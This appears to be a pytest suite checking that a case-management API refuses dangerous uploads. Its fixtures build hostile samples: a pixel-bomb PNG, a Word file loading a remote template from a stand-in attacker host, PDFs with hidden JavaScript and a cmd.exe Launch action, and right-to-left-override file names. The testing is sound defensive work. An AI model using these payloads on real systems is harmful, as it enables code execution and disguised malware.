"""What an upload may be, found by the attack review: a picture is refused by its pixel count before
anything is decoded, at most a few are decoded at once, documents that run something or reach
outside themselves are refused, and names lose the characters that disguise them."""
from __future__ import annotations

import io
import threading
import zipfile
import zlib

import pytest

from border_referral.files import uploads


@pytest.fixture
def case_id(api):
    r = api().post("/api/v1/cases", json={"person": {"full_name": "Nang Hom", "sex": "female", "nationality": "MM"}})
    return r.json["id"]


def attach(api, case_id, raw: bytes, name: str):
    return api().post(f"/api/v1/cases/{case_id}/attachments", data={"file": (io.BytesIO(raw), name)},
                      content_type="multipart/form-data")


def png(width: int, height: int) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def stored(demo, case_id) -> int:
    from sqlalchemy import func, select

    from border_referral.cases.models import Attachment
    from border_referral.database import session_scope

    with demo.app_context(), session_scope() as s:
        return s.execute(select(func.count()).select_from(Attachment).where(Attachment.case_id == case_id)).scalar_one()


def test_a_picture_with_too_many_pixels_is_refused_before_it_is_decoded(api, case_id, demo, monkeypatch):
    from PIL import Image

    bomb = png(9400, 9400)  # 88 megapixels in a few hundred kilobytes
    assert len(bomb) < 2_000_000
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self, *a, **k: decoded.append(self.size))
    r = attach(api, case_id, bomb, "map.png")
    assert r.status_code == 413 and r.json["error"]["code"] == "too_many_pixels"
    assert "40" in r.json["error"]["message"]
    assert decoded == []  # refused from the header, nothing decoded
    assert stored(demo, case_id) == 0


def test_an_ordinary_photo_is_still_accepted(api, case_id, demo):
    r = attach(api, case_id, png(800, 600), "photo.png")
    assert r.status_code == 201 and stored(demo, case_id) == 1


def test_pictures_wait_for_a_free_slot_and_are_refused_when_none_frees(api, case_id, demo, monkeypatch):
    demo.config["IMAGE_WORK_WAIT_SECONDS"] = 0.2
    slots = threading.BoundedSemaphore(1)
    monkeypatch.setattr(uploads, "_image_slots", slots)
    slots.acquire()  # another upload is being decoded
    try:
        r = attach(api, case_id, png(80, 60), "photo.png")
    finally:
        slots.release()
    assert r.status_code == 503 and r.json["error"]["code"] == "busy"
    assert attach(api, case_id, png(80, 60), "photo.png").status_code == 201  # and then it works


def docx(external: bool = False, macro: bool = False) -> bytes:
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    raw = out.getvalue()
    if not (external or macro):
        return raw
    src, dst = zipfile.ZipFile(io.BytesIO(raw)), io.BytesIO()
    with zipfile.ZipFile(dst, "w") as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if external and item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.'
                                    b'org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
                                    b' TargetMode="External"/></Relationships>')
            z.writestr(item, data)
        if macro:
            z.writestr("word/vbaProject.bin", b"\x00" * 64)
    return dst.getvalue()


@pytest.mark.parametrize("kind", ["external", "macro"])
def test_a_word_document_that_reaches_outside_or_carries_macros_is_refused(api, case_id, kind):
    assert attach(api, case_id, docx(), "letter.docx").status_code == 201
    r = attach(api, case_id, docx(**{kind: True}), "letter.docx")
    assert r.status_code == 415 and r.json["error"]["code"] == "active_content"


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + body + b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


@pytest.mark.parametrize("body", [
    b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    b"<< /Type /Catalog /Names << /J#61vaScript 2 0 R >> >>",  # a name written with #xx escapes
    b"<< /Length 40 /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"<< /S /Launch /F (cmd.exe) >>") + b"\nendstream",
])
def test_a_pdf_that_runs_something_is_refused_even_when_hidden(api, case_id, body):
    r = attach(api, case_id, pdf(body), "report.pdf")
    assert r.status_code == 415 and r.json["error"]["code"] == "active_content"


def test_a_plain_pdf_is_accepted(api, case_id):
    assert attach(api, case_id, pdf(b"<< /Type /Catalog /Pages 2 0 R >>"), "report.pdf").status_code == 201


@pytest.mark.parametrize("name, shown", [
    ("invoice\u202Efdp.exe", "invoicefdp.txt"),           # right-to-left override
    ("ราย\u200bงาน\u2066.txt", "รายงาน.txt"),               # zero-width space, isolate
    ("a\x07b.txt", "ab.txt"),
])
def test_names_lose_the_characters_that_disguise_them(name, shown):
    assert uploads.safe_name(name, "text/plain") == shown
